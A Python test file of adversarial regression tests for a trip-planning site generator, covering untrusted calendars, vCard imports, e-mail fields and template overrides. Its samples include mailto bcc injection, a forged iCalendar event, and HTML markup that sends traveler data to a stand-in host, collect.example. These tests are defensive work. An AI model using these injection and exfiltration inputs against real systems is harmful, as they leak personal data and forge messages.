"""Family "Content from other people", round three (issue 26): calendars people send, contact exports, the
addresses and titles that end up in links and calendar events, and draft overrides.

Each test fails on the code before issue 26: a 250-byte calendar that hung every command for hours, a
`mailto:` that added a hidden recipient, a trip title that forged a calendar event, and so on.
"""

from __future__ import annotations

import os
import subprocess
import sys
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from adversarial.helpers import EPOCH, REPO, Guard, Workspace, cli, refused

BUILD_WEB = ("build", "content", "-o", "out", "--no-pdf")


def add_calendar(ws: Workspace, body: str) -> str:
    """Give José the calendar `body` (VEVENT lines); returns the `available_ics:` line as `path:line`."""
    ws.write(
        "assets/jose.ics",
        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Fastmail//EN\r\n"
        + body.replace("\n", "\r\n")
        + "END:VCALENDAR\r\n",
    )
    text = ws.read("people/jose-alvarez.yaml")
    ws.write("people/jose-alvarez.yaml", text + "available_ics: assets/jose.ics\n")
    return f"content/people/jose-alvarez.yaml:{len(text.splitlines()) + 1}"


def run_module(ws: Workspace, *args: str, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    """The CLI in a process of its own: a hang is a failed test, not a hung suite."""
    env = {**os.environ, "SOURCE_DATE_EPOCH": EPOCH, "PYTHONPATH": str(REPO)}
    return subprocess.run(
        [sys.executable, "-m", "generator", *args],
        cwd=ws.root,
        env=env,
        capture_output=True,
        text=True,
        timeout=timeout,
    )


# ---- item 4: calendars people send ---------------------------------------------------------------


def test_a_secondly_rule_from_1970_is_refused_at_once(ws: Workspace) -> None:
    """250 bytes that walked 50 years second by second (about two hours per event) before the cap applied."""
    where = add_calendar(
        ws,
        "BEGIN:VEVENT\nUID:x@example\nDTSTART:19700101T000000Z\nDURATION:PT1S\nRRULE:FREQ=SECONDLY\nEND:VEVENT\n",
    )
    ran = run_module(ws, "check", "content")
    assert ran.returncode == 1, ran.stderr
    assert "Traceback" not in ran.stderr
    assert (
        f"{where}: error: assets/jose.ics: a repeating entry repeats more often than once a minute"
        in ran.stderr
    )


def test_rules_from_1970_are_read_from_the_trips_dates_in_step() -> None:
    """A standing Monday 09:00-12:00 meeting since 1970 and a 7-hourly one: read in milliseconds, in phase."""
    from zoneinfo import ZoneInfo

    from generator.content.availability import read_calendar

    raw = (
        b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Fastmail//EN\r\n"
        b"BEGIN:VEVENT\r\nUID:standup@example\r\nDTSTART;TZID=Europe/London:19700105T090000\r\n"
        b"DTEND;TZID=Europe/London:19700105T120000\r\nRRULE:FREQ=WEEKLY;BYDAY=MO\r\nEND:VEVENT\r\n"
        b"BEGIN:VEVENT\r\nUID:pulse@example\r\nDTSTART:19700101T000000Z\r\nDURATION:PT1M\r\n"
        b"RRULE:FREQ=HOURLY;INTERVAL=7\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    )
    london = ZoneInfo("Europe/London")
    first, last = (
        datetime(2027, 5, 28, tzinfo=london),
        datetime(2027, 6, 2, tzinfo=london),
    )  # the spring bank holiday
    busy = read_calendar(raw, "assets/jose.ics", london, first, last).busy
    mondays = [p for p in busy if p.end - p.start == timedelta(hours=3)]
    assert [(p.start.astimezone(london).isoformat()) for p in mondays] == [
        "2027-05-31T09:00:00+01:00"
    ]  # summer time
    pulses = [p for p in busy if p.end - p.start == timedelta(minutes=1)]
    epoch = datetime(1970, 1, 1, tzinfo=timezone.utc)
    assert len(pulses) == 5 * 24 // 7 + 1 or len(pulses) == 5 * 24 // 7
    assert all((p.start - epoch) % timedelta(hours=7) == timedelta(0) for p in pulses)


def test_a_minutely_calendar_over_the_trip_is_refused_not_cut(ws: Workspace) -> None:
    where = add_calendar(
        ws,
        "BEGIN:VEVENT\nUID:m@example\nDTSTART:20270101T000000Z\nDURATION:PT30S\nRRULE:FREQ=MINUTELY\nEND:VEVENT\n",
    )
    guard = Guard(ws)
    refused(cli(*BUILD_WEB), guard, f"{where}: error: assets/jose.ics: the calendar has ")


# ---- item 12: an e-mail address is an address ----------------------------------------------------


def line_of(ws: Workspace, rel: str, needle: str) -> int:
    return next(n for n, line in enumerate(ws.read(rel).splitlines(), 1) if needle in line)


@pytest.mark.parametrize(
    "address",
    [
        "jose.alvarez@harbor.example?bcc=collector@elsewhere.example",
        "jose.alvarez@harbor.example, collector@elsewhere.example",
        "jose.alvarez@harbor.example&cc=collector@elsewhere.example",
        "José Álvarez <jose.alvarez@harbor.example>",
    ],
)
def test_an_address_that_would_add_a_recipient_is_refused(ws: Workspace, address: str) -> None:
    ws.edit("people/jose-alvarez.yaml", "email: jose.alvarez@harbor.example", f'email: "{address}"')
    guard = Guard(ws)
    at = line_of(ws, "people/jose-alvarez.yaml", "email:")
    ran = cli(*BUILD_WEB)
    refused(ran, guard, f"content/people/jose-alvarez.yaml:{at}: error: ")
    assert "is not an e-mail address" in ran.stderr


def test_addresses_in_every_script_still_link(ws: Workspace) -> None:
    ws.edit(
        "people/jose-alvarez.yaml",
        "email: jose.alvarez@harbor.example",
        "email: josé.álvarez@hafen-analytik.de",
    )
    ws.edit("trip.yaml", "email: robin.quill@example.com", "email: o'brien+trip@example.co.uk")
    ran = cli(*BUILD_WEB)
    assert ran.code == 0, ran.output
    packet = (ws.output / "meetings" / "2027-05-10-jose-alvarez" / "index.html").read_text(
        encoding="utf-8"
    )
    assert 'href="mailto:josé.álvarez@hafen-analytik.de"' in packet


# ---- item 9: a line break in a one-line field ----------------------------------------------------

FORGED = "Adversarial test week\\nBEGIN:VEVENT\\nUID:forged@example\\nSUMMARY:Wire the deposit\\nEND:VEVENT"


@pytest.mark.parametrize("command", ["check", "build"])
def test_a_line_break_in_the_title_is_an_error_at_its_line(ws: Workspace, command: str) -> None:
    ws.edit("trip.yaml", "title: Adversarial test week", f'title: "{FORGED}"')
    guard = Guard(ws)
    args = BUILD_WEB if command == "build" else ("check", "content")
    refused(cli(*args), guard, "content/trip.yaml:2: error: title: must be one line")


def test_no_calendar_event_is_forged_even_without_asserts(ws: Workspace) -> None:
    """icalendar's only guard was an `assert`; under PYTHONOPTIMIZE=1 the title's line break forged an event.
    The title is put past the content check here (as a plan made in code would): the calendar must hold anyway."""
    code = (
        "import dataclasses, sys; from datetime import date, datetime, timezone; from pathlib "
        "import Path\n"
        "from generator.content.load import load; from generator.plan.plan import make_plan\n"
        "from generator.render.calendar import render_calendar; from generator.render.markdown "
        "import Notes\n"
        "from generator.render.paths import Paths\n"
        "trip = load(Path('content'), 'content')\n"
        "title = sys.argv[1].replace('\\\\n', chr(10))\n"
        "trip = dataclasses.replace(trip, info=trip.info.model_copy(update={'title': title}))\n"
        "plan = make_plan(trip, date(2027, 5, 1), datetime(2027, 5, 1, 12, tzinfo=timezone.utc))\n"
        "sys.stdout.write(render_calendar(plan, Paths(), Notes()).decode())\n"
    )
    env = {**os.environ, "PYTHONPATH": str(REPO), "PYTHONOPTIMIZE": "1"}
    ran = subprocess.run(
        [sys.executable, "-c", code, FORGED],
        cwd=ws.root,
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert ran.returncode == 0, ran.stderr
    lines = ran.stdout.replace("\n ", "").splitlines()  # text mode: CRLF read as LF; folds undone
    assert "UID:forged@example" not in lines
    assert lines.count("BEGIN:VEVENT") == 1, ran.stdout


# ---- item 14: followup locates a failing draft override ------------------------------------------


@pytest.mark.parametrize("command", ["followup", "check", "build"])
def test_a_failing_draft_override_is_located_by_every_command(ws: Workspace, command: str) -> None:
    ws.write(
        "templates/drafts/thanks.txt",
        "{{ draft.greeting }}\n\nThank you for your time, {{ draft.first_nmae }}.\n",
    )
    guard = Guard(ws)
    args = {
        "followup": ("followup", "content", "--today", "2027-05-11"),
        "check": ("check", "content"),
        "build": BUILD_WEB,
    }
    ran = cli(*args[command])
    refused(ran, guard, "content/templates/drafts/thanks.txt:3: error: template error: ")


# ---- item 3: a template override cannot send the page away without a script ----------------------


def default_template(name: str) -> str:
    return (REPO / "themes" / "default" / "templates" / name).read_text(encoding="utf-8")


@pytest.mark.parametrize(
    ("markup", "needle", "message"),
    [
        (
            '<meta http-equiv="refresh" content="0; url=https://collect.example/?n={{ '
            'page.trip.traveler.name|urlencode }}">',
            "http-equiv",
            'template error: the page has <meta http-equiv="refresh">',
        ),
        (
            "<META HTTP-EQUIV=Refresh CONTENT='0;URL=//collect.example/'>",
            "http-equiv",
            "template error: the page has <meta http-equiv",
        ),
        (
            '<link rel="prefetch" href="https://collect.example/{{ page.trip.traveler.email }}">',
            "rel=",
            "template error: a <link rel",
        ),
        (
            '<link rel="dns-prefetch preload" href="\\\\collect.example/x">',
            "rel=",
            "template error: a <link rel",
        ),
        (
            '<a href="#" ping="https://collect.example/p">Network</a>',
            "ping",
            "template error: a <a> has a ping attribute",
        ),
        (
            '<base href="https://collect.example/">',
            "<base",
            "template error: the page has a <base> element",
        ),
        (
            '<form action="https://collect.example/f"><input name="n" value="{{ '
            'page.trip.traveler.phone }}"></form>',
            "action",
            "template error: the page has a form with an action",
        ),
        (
            '<form><button formaction="https://collect.example/">Send</button></form>',
            "formaction",
            "template error: a <button> has a formaction",
        ),
    ],
)
def test_a_page_that_would_send_its_data_away_is_refused(
    ws: Workspace, markup: str, needle: str, message: str
) -> None:
    lines = default_template("followups.html").splitlines()
    at = lines.index("{% block main %}") + 1
    lines.insert(at, markup)
    ws.write("templates/followups.html", "\n".join(lines) + "\n")
    guard = Guard(ws)
    refused(cli(*BUILD_WEB), guard, f"content/templates/followups.html:{at + 1}: error: {message}")


def test_a_base_override_without_the_policy_still_gets_it(ws: Workspace) -> None:
    """A base.html without the Content-Security-Policy (and with an inline script ahead of everything)."""
    base = default_template("base.html").replace(
        "<head>", "<head>\n<script>document.title = 'ran'</script>"
    )
    ws.write("templates/base.html", base.replace("Content-Security-Policy", "X-Nothing"))
    ran = cli(*BUILD_WEB)
    assert ran.code == 0, ran.output
    from generator.render.page_policy import CONTENT_SECURITY_POLICY

    for page in [
        ws.output / "index.html",
        ws.output / "network.html",
        ws.output / "followups.html",
    ]:
        html = page.read_text(encoding="utf-8")
        policy = html.find(
            f'<meta http-equiv="Content-Security-Policy" content="{CONTENT_SECURITY_POLICY}">'
        )
        assert 0 <= policy < html.find("<script"), page


# ---- item 5: propose in bounded time and memory --------------------------------------------------


def ask_kim(ws: Workspace, windows: list[str]) -> None:
    text = (
        ws.read("people/kim-park.yaml")
        + "outreach:\n  status: asked\n  asked_on: 2027-04-20\navailable:\n"
    )
    ws.write("people/kim-park.yaml", text + "".join(f"  - {w}\n" for w in windows))


def limited_memory() -> None:
    import resource

    resource.setrlimit(
        resource.RLIMIT_AS, (3 << 30, 3 << 30)
    )  # 3 GB of address space: the old model took 1.75 GB of memory


def test_propose_merges_40_kb_of_overlapping_windows(ws: Workspace) -> None:
    """Each window a little different: every one was an option, and the day's circuit had a variable for each pair
    of two people's options (the review: 25 KB took 18 s and 1.75 GB with --time-limit 5, 73 KB ran out of memory)."""
    for n in range(6):
        windows = "".join(
            f"  - 2027-05-10 {8 + k // 60 % 8:02d}:{k % 60:02d}-18:30 {('video', 'phone')[k % 2]}\n"
            for k in range(200)
        )
        ws.write(
            f"people/guest-{n}.yaml",
            f"name: Guest {n}\nseniority: peer\noutreach:\n  status: asked\navailable:\n{windows}",
        )
    assert sum(len(ws.read(f"people/guest-{n}.yaml")) for n in range(6)) > 40_000
    env = {**os.environ, "SOURCE_DATE_EPOCH": EPOCH, "PYTHONPATH": str(REPO)}
    ran = subprocess.run(
        [sys.executable, "-m", "generator", "propose", "content", "--time-limit", "5"],
        cwd=ws.root,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        preexec_fn=limited_memory,
    )
    assert ran.returncode == 0, ran.stderr[-2000:]
    assert "6 requests around 1 fixed meeting; 2 placed, 4 not" in ran.stdout  # per_day [1, 3]


def test_propose_refuses_a_day_too_large_to_weigh_at_its_line(ws: Workspace) -> None:
    for n in range(40):
        ws.write(
            f"people/guest-{n:02d}.yaml",
            f"name: Guest {n:02d}\nseniority: peer\noutreach:\n  status: asked\n"
            "available:\n"
            + "".join(f"  - 2027-05-10 {h:02d}:00-{h:02d}:50\n" for h in range(8, 18, 2)),
        )
    ask_kim(
        ws,
        [
            f"2027-05-10 {h:02d}:00-{h:02d}:50 {f}"
            for h in range(8, 18, 2)
            for f in ("video", "phone")
        ],
    )
    guard = Guard(ws)
    ran = cli("propose", "content", "--time-limit", "5")
    refused(
        ran,
        guard,
        f"content/people/kim-park.yaml:{line_of(ws, 'people/kim-park.yaml', 'available:')}: "
        "error: propose cannot weigh this week",
    )


# ---- item 8: import and new never write through links, and read profiles as check does -----------

VCARD = (
    "BEGIN:VCARD\r\nVERSION:3.0\r\nN:Doe;Jane;;;\r\nFN:Jane Doe\r\nORG:Liffey Transit "
    "Lab\r\nTITLE:Data Lead\r\n"
    "EMAIL;TYPE=INTERNET:jane.doe@liffey.example\r\nEND:VCARD\r\n"
)


def contacts(ws: Workspace) -> Path:
    path = ws.root / "contacts.vcf"
    path.write_text(VCARD, encoding="utf-8")
    return path


def test_import_into_a_people_folder_linked_elsewhere_writes_nothing_there(
    ws: Workspace, tmp_path: Path
) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    for path in (ws.content / "people").iterdir():
        path.rename(elsewhere / path.name)
    (ws.content / "people").rmdir()
    (ws.content / "people").symlink_to(elsewhere, target_is_directory=True)
    before = sorted(p.name for p in elsewhere.iterdir())
    ran = cli("import", str(contacts(ws)), "--into", "content")
    assert ran.code == 1 and "Traceback" not in ran.output, ran.output
    assert sorted(p.name for p in elsewhere.iterdir()) == before


@pytest.mark.parametrize("command", ["import", "new"])
def test_a_dangling_link_in_the_new_profiles_place_is_never_written_through(
    ws: Workspace, tmp_path: Path, command: str
) -> None:
    target = tmp_path / "outside" / "planted.yaml"
    target.parent.mkdir()
    (ws.content / "people" / "jane-doe.yaml").symlink_to(target)
    if command == "import":
        ran = cli("import", str(contacts(ws)), "--into", "content")
    else:
        ran = cli("new", "content", "--person", "jane-doe")
    assert "Traceback" not in ran.output, ran.output
    assert not target.exists(), ran.output
    # import takes another name: jane-doe-2
    assert ran.code == (1 if command == "new" else 0), ran.output


@pytest.mark.parametrize("planted", ["fifo", "/dev/zero", "outside"])
def test_import_never_reads_a_fifo_a_device_or_a_file_outside_among_the_profiles(
    ws: Workspace, tmp_path: Path, planted: str
) -> None:
    where = ws.content / "people" / "ann-lee.yaml"
    if planted == "fifo":
        os.mkfifo(where)
    elif planted == "/dev/zero":
        where.symlink_to("/dev/zero")
    else:
        secret = tmp_path / "secret.yaml"
        secret.write_text(
            "name: Jane Doe\nemail: jane.doe@liffey.example\nphone: '+353 1 555 0199 PRIVATE'\n"
        )
        where.symlink_to(secret)
    ran = (
        run_module(ws, "import", "contacts.vcf", "--into", "content", "--dry-run", timeout=60)
        if contacts(ws)
        else None
    )
    assert ran is not None
    assert "Traceback" not in ran.stderr and "MemoryError" not in ran.stderr, ran.stderr
    assert "PRIVATE" not in ran.stdout + ran.stderr


# ---- item 10: a new build's service worker verifies what it keeps --------------------------------

WORKER_HARNESS = r"""
const fs = require('fs'), vm = require('vm');
const [worker, siteDir, mode] = process.argv.slice(1);
const SCOPE = 'https://trip.example/';
class ServiceWorkerGlobalScope {}
const self = new ServiceWorkerGlobalScope();
const listeners = {};
Object.assign(self, {registration: {scope: SCOPE}, addEventListener: (t, f) => { listeners[t] = f; },
  skipWaiting: async () => {}, clients: {claim: async () => {}}});
const store = new Map();
const caches = {
  keys: async () => [...store.keys()],
  open: async (n) => { if (!store.has(n)) store.set(n, new Map()); const m = store.get(n);
    return {match: async (u) => (m.has(u) ? m.get(u).clone() : undefined), put: async (u, r) => { m.set(u, r); }}; },
  delete: async (n) => store.delete(n),
};
let online = true;
async function fetch(request) {
  if (!online) throw new TypeError('offline');
  const url = typeof request === 'string' ? request : request.url;
  const file = siteDir + '/' + url.slice(SCOPE.length);
  if (!fs.existsSync(file)) return new Response('', {status: 404});
  return new Response(fs.readFileSync(file), {status: 200, headers: {'Content-Type': 'text/javascript'}});
}
const ctx = {self, caches, fetch, Response, Request, Blob, URL, crypto: globalThis.crypto, setTimeout, clearTimeout,
  console, ServiceWorkerGlobalScope, Promise, TextEncoder};
(async () => {
  const FORGED = 'document.body.innerHTML = "forged"; // sent the key away';
  const digest = JSON.parse(/var FILES = (\{[\s\S]*?\});/.exec(fs.readFileSync(worker, 'utf8'))[1])['static/site.js'];
  const forged = () => new Response(FORGED, {headers: {'Content-Type': 'text/javascript', 'X-Infoprep-Digest': digest}});
  (await caches.open('infoprep ' + SCOPE + ' an-earlier-build')).put(SCOPE + 'static/site.js', forged());
  vm.runInNewContext(fs.readFileSync(worker, 'utf8'), ctx);
  let installing;
  listeners.install({waitUntil: (p) => { installing = p; }});
  await installing;
  const current = [...store.keys()].find((n) => !n.endsWith('an-earlier-build'));
  const kept = await (await caches.open(current)).match(SCOPE + 'static/site.js');
  const out = {kept: kept ? await kept.text() : null};
  (await caches.open(current)).put(SCOPE + 'static/site.js', forged());
  online = false;
  let answered;
  listeners.fetch({request: {method: 'GET', url: SCOPE + 'static/site.js'}, respondWith: (p) => { answered = p; }});
  const response = await answered;
  out.offline = response.type === 'error' ? 'refused' : await response.text();
  process.stdout.write(JSON.stringify(out));
})().catch((e) => { console.error(e); process.exit(2); });
"""


def test_a_new_builds_worker_never_keeps_or_serves_a_forged_copy(ws: Workspace) -> None:
    """A script that once ran on the origin put a forged site.js, with the right digest header, in Cache Storage:
    the next build's worker copied it as "unchanged" and served it offline."""
    import json

    ran = subprocess.run(
        ["node", "-e", WORKER_HARNESS, str(ws.output / "sw.js"), str(ws.output), "install"],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert ran.returncode == 0, ran.stderr
    found = json.loads(ran.stdout)
    assert found["kept"] == (ws.output / "static" / "site.js").read_text(encoding="utf-8")
    assert found["offline"] == "refused"


# ---- item 13: import in linear time, located errors for broken vCards, harmless file names -------


def card(name: str, org: str = "", emails: tuple[str, ...] = ()) -> str:
    lines = ["BEGIN:VCARD", "VERSION:3.0", f"FN:{name}"] + ([f"ORG:{org}"] if org else [])
    return "\r\n".join(lines + [f"EMAIL:{e}" for e in emails] + ["END:VCARD"]) + "\r\n"


def timed_import(
    ws: Workspace, text: str | bytes, name: str = "contacts.vcf"
) -> tuple[subprocess.CompletedProcess[str], float]:
    import time

    path = ws.root / name
    path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))
    began = time.perf_counter()
    ran = run_module(ws, "import", name, "--into", "content", "--dry-run", timeout=120)
    return ran, time.perf_counter() - began


@pytest.mark.parametrize(
    "shape", ["one name at many organisations", "many e-mails in one card", "a chain of merges"]
)
def test_import_is_linear_on_the_shapes_that_were_quadratic(ws: Workspace, shape: str) -> None:
    """35-46 s under 0.4 MB before. Bounded here by 60 s, far above the ~2 s it takes (the growth itself is
    measured in tests/bench, never asserted)."""
    if shape == "one name at many organisations":
        text = "".join(card("Siobhán Ní Bhriain", f"Org {n}") for n in range(4000))
    elif shape == "many e-mails in one card":
        text = card(
            "Aoife Byrne", "Liffey Transit", tuple(f"aoife.{n}@liffey.example" for n in range(5000))
        )
    else:  # each card shares an e-mail with the next: every card joins the one group
        text = "".join(
            card(f"Name {n}", "", (f"p{n}@x.example", f"p{n + 1}@x.example")) for n in range(4000)
        )
    assert len(text) < 400_000
    ran, took = timed_import(ws, text)
    assert ran.returncode == 0, ran.stderr[-2000:]
    assert took < 60


@pytest.mark.parametrize(
    ("raw", "message"),
    [
        (
            card("Jane Doe")
            .replace("FN:Jane Doe", "FN;CHARSET=X-UNKNOWN-9;ENCODING=QUOTED-PRINTABLE:Jane=20Doe")
            .encode(),
            "contacts.vcf:1: error: this vCard ",
        ),
        (
            ("BEGIN:VCARD\r\n" * 3000 + "END:VCARD\r\n" * 3000).encode(),
            "contacts.vcf:4: error: blocks nested more than 3 deep",
        ),
        (
            b"\xff\xfe"
            + "BEGIN:VCARD\r\nFN:Jane\r\n".encode("utf-16-le")
            + b"\x00\xd8"
            + "\r\nEND:VCARD\r\n".encode("utf-16-le"),
            "contacts.vcf:3: error: broken UTF-16 text",
        ),
        (
            (
                "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Jane Doe\r\nNOTE:"
                + "\r\n x" * 1_100_000
                + "\r\nEND:VCARD\r\n"
            ).encode(),
            "contacts.vcf:4: error: this vCard cannot be read: a field (starting on line 4) "
            "longer than 1,000,000",
        ),
    ],
    ids=["unknown-charset", "deep-nesting", "lone-surrogate", "6-mb-folded-field"],
)
def test_a_broken_vcard_is_a_located_error(ws: Workspace, raw: bytes, message: str) -> None:
    ran, _ = timed_import(ws, raw)
    assert ran.returncode == 1 and "Traceback" not in ran.stderr, ran.stderr[-2000:]
    assert message in ran.stderr, ran.stderr[-2000:]


def test_a_line_break_in_an_exports_file_name_adds_no_key(ws: Workspace) -> None:
    name = "contacts.vcf\nemail: attacker@collect.example\n#"
    (ws.root / name).write_text(card("Jane Doe", "Liffey Transit"), encoding="utf-8")
    ran = cli("import", name, "--into", "content")
    assert ran.code == 0, ran.output
    written = ws.read("people/jane-doe.yaml")
    assert "attacker@collect.example" not in [
        line.split(":", 1)[-1].strip() for line in written.splitlines() if line.startswith("email")
    ]
    assert not any(line.startswith("email: attacker") for line in written.splitlines())
